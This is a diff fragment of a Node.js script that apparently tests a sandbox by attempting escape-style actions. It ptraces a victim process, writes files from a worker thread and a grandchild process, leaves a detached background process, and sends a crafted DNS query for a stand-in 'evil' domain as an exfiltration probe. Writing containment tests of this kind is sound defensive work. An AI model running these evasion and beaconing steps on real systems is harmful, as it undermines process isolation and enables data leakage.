@@ -22,7 +22,7 @@ execFileSync(tool, ['ptrace', '${victim}']);
 execFileSync(tool, ['memory']);
 new Worker('require("node:fs").writeFileSync(' + JSON.stringify(home + '/by-thread') + ', "x")', { eval: true });
 execFileSync('setsid', ['--wait', 'sh', '-c', '( sh -c "echo x > ' + home + '/by-grandchild" ) & wait']);
-spawn('setsid', ['sleep', '300'], { detached: true, stdio: 'ignore' }).unref();
+spawn('sleep', ['300'], { detached: true, stdio: 'ignore' }).unref();
 const socket = require('node:dgram').createSocket('udp4');
 const name = [9, ...Buffer.from('deadbeef0'), 4, ...Buffer.from('evil'), 7, ...Buffer.from('invalid'), 0];
 socket.send(Buffer.from([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...name, 0, 16, 0, 1]), 53, '127.0.0.1', () => socket.close());
